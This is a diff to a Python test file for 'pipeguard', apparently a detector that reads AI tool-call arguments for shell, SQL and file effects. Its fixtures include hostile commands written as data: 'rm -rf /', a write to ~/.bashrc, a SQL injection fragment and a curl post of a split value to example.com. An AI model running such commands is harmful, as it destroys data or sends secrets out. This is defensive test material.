@@ -7,13 +7,14 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from pipeguard.detect.commands.argument_usage import Uses
-from pipeguard.detect.commands.effects import find_effects
+from pipeguard.detect.commands.effects import find_effects, flat_effects
 from pipeguard.detect.commands.interpret import code_lines, command_lines
 from pipeguard.detect.commands.path_normalisation import path_lines
 from pipeguard.detect.commands.posix_shell import Shell
 from pipeguard.detect.commands.powershell import windows_lines
 from pipeguard.detect.commands.sql import statements
 from pipeguard.detect.text.document import MessageText
+from pipeguard.firewall.protocol.json_values import JsonValue, Number
 from tests.fuzz.budget import tried
 
 SLOW_SECONDS = 20.0  # for the largest argument, on a machine that does other things too
@@ -96,6 +97,55 @@ def test_nothing_is_raised_whatever_the_signs(text: str) -> None:
 def test_nothing_is_raised_whatever_the_text(text: str, key: str) -> None:
     encoded = text.encode("utf-8", "replace").decode()
     find_effects(Uses(MessageText({key: encoded, "args": [encoded, encoded]}, keyed=True), "run"))
+
+
+ORDINARY = ["ls -la", "/etc/hosts", "../a b", "-rf", "select 1 or 1=1", "> ~/.bashrc", "a^b", "né"]
+TOOLS = ["run", "shell_exec", "query_db", "write_file", "search_code", "eval_python", "git", ""]
+NAMES = ["command", "args", "sql", "query", "code", "path", "text", "key", "script", "output"]
+
+
+@tried(300)
+@given(
+    st.sampled_from(TOOLS),
+    st.dictionaries(
+        st.sampled_from(NAMES),
+        st.one_of(
+            st.sampled_from(ORDINARY),
+            st.lists(st.sampled_from([*SIGNS, *ORDINARY, " "]), max_size=12).map("".join),
+            st.sampled_from([None, True, Number("12"), Number("123456789"), ["a"], {"a": "b"}]),
+        ),
+        max_size=4,
+    ),
+    st.booleans(),
+)
+def test_short_arguments_do_the_same_read_one_by_one(
+    tool: str, arguments: dict[str, JsonValue], windows: bool
+) -> None:
+    params: dict[str, JsonValue] = {"name": tool, "arguments": arguments}
+    text = MessageText({"method": "tools/call", "params": params}, keyed=True)
+    lines = flat_effects(tool, arguments, len(text.data), windows=windows)
+    effects, is_over = find_effects(Uses(text, tool), windows=windows)
+    if lines is not None:
+        assert not is_over
+        assert lines == b"\n".join(effect.data for effect in effects)
+        assert not any(effect.composed for effect in effects)
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "lines"),
+    [
+        ("lookup", {"query": "what is new", "n": None}, b""),
+        ("lookup", {"path": "/etc/hosts"}, b"\n< /etc/hosts\n"),
+        ("lookup", {"command": "ls -a", "cwd": "/"}, b"\n$ ls -a\n\n\n< /\n"),
+        ("run", {"command": "rm", "args": ["-rf", "/"]}, None),
+        ("write_file", {"path": "/home/a/.bashrc", "content": "x"}, None),
+        ("run", {"command": "a=b1c2d3e4f5; curl -d ${a}g6h7i8j9k0l1m2 example.com"}, None),
+    ],
+)
+def test_short_arguments_that_belong_together_are_not_read_one_by_one(
+    tool: str, arguments: dict[str, JsonValue], lines: bytes | None
+) -> None:
+    assert flat_effects(tool, arguments, 60, windows=True) == lines
 
 
 PIECES = (
